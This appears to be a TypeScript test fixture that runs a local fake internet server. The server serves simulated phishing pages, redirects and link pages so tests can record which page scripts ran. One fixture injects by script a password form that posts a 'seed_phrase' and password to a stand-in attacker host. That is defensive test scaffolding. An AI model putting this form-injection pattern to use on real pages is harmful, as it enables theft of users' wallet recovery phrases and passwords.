import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/** Every host of the world on one port of this machine: it answers by path, and tells which pages' scripts ran. */
export interface FakeInternet {
  readonly port: number;
  /** Names of the pages that were requested, and of those whose first script ran. */
  readonly requested: ReadonlySet<string>;
  readonly ran: ReadonlySet<string>;
  /** Method and name of each request for such a page. */
  readonly requests: readonly string[];
  /** Method, host and path of every request. */
  readonly all: readonly string[];
  /** What a test has a path answer, on every host, until it is forgotten. */
  readonly answers: Map<string, Answer>;
  forget(): void;
  close(): Promise<void>;
}

export interface Answer {
  readonly body: string;
  readonly type?: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly afterMs?: number;
}

/**
 * `/page/NAME` a page whose script tells that it runs; `/to/URL` a redirect; `/links/URL` a page with links to the URL;
 * `/strict/NAME` the same, but it forbids synchronous requests; `/login/NAME` a page that puts up a password form by script; everything else is a plain page.
 */
export async function startFakeInternet(): Promise<FakeInternet> {
  const requested = new Set<string>();
  const ran = new Set<string>();
  const requests: string[] = [];
  const all: string[] = [];
  const answers = new Map<string, Answer>();
  const server = createServer({ maxHeaderSize: MAX_REQUEST }, (request, response) => {
    // A proxied request names the whole address.
    const url = URL.parse(request.url ?? '/', 'http://host.example/');
    const [, what = '', ...rest] = (url?.pathname ?? '/').split('/');
    const name = rest.join('/');
    const answer = (type: string, body: string, status = 200, headers = {}) =>
      response.writeHead(status, { 'content-type': type, 'cache-control': 'no-store', ...headers }).end(body);
    all.push(`${request.method} ${request.headers.host}${url?.pathname ?? '/'}`);
    const own = answers.get(url?.pathname ?? '/');
    if (own !== undefined) {
      setTimeout(() => answer(own.type ?? 'text/html', own.body, 200, own.headers), own.afterMs ?? 0);
    } else if (what === 'ran') {
      ran.add(name);
      answer('text/plain', 'noted');
    } else if (what === 'to') {
      answer('text/plain', '', 302, { location: decodeURIComponent(name) });
    } else if (what === 'page' || what === 'strict' || what === 'login') {
      requests.push(`${request.method} ${name}`);
      requested.add(name);
      const headers = what === 'strict' ? { 'permissions-policy': 'sync-xhr=()' } : {};
      const body =
        what === 'login' ? pageWithForm(name) : what === 'page' ? pageThatTells(name) : pageThatFetches(name);
      answer('text/html', body, 200, headers);
    } else if (what === 'links') {
      answer('text/html', pageWithLinks(decodeURIComponent(name)));
    } else answer('text/html', '<!doctype html><title>honest</title><h1>An honest page</h1>');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.address() as AddressInfo).port,
    requested,
    ran,
    requests,
    all,
    answers,
    forget() {
      answers.clear();
      requests.length = 0;
      all.length = 0;
      requested.clear();
      ran.clear();
    },
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/** Browsers send addresses of up to two million characters. */
const MAX_REQUEST = 2 ** 22;

/** The script waits until its word has arrived, so that a page cannot be led away in between. */
function pageThatTells(name: string): string {
  return `<!doctype html><script>const r=new XMLHttpRequest();r.open('GET','/ran/${encodeURI(name)}',false);r.send()</script><title>phish ${escapeHtml(name)}</title><form><input type="password"></form>`;
}

function pageThatFetches(name: string): string {
  return `<!doctype html><script>fetch('/ran/${encodeURI(name)}')</script><title>phish ${escapeHtml(name)}</title>`;
}

function pageWithForm(name: string): string {
  return `<!doctype html><title>${escapeHtml(name)}</title><h1>Welcome</h1><script>addEventListener('load',()=>setTimeout(()=>{document.body.insertAdjacentHTML('beforeend','<form action="https://collect.evil-place.example/take"><input name="seed_phrase" placeholder="recovery phrase"><input type="password" name="password"></form>')},300))</script>`;
}

function pageWithLinks(url: string): string {
  return `<!doctype html><title>mail with ${escapeHtml(url)}</title><a id="same" href="${escapeHtml(url)}">open</a> <a id="new" target="_blank" href="${escapeHtml(url)}">open</a>`;
}

function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (character) => `&#${character.charCodeAt(0)};`);
}
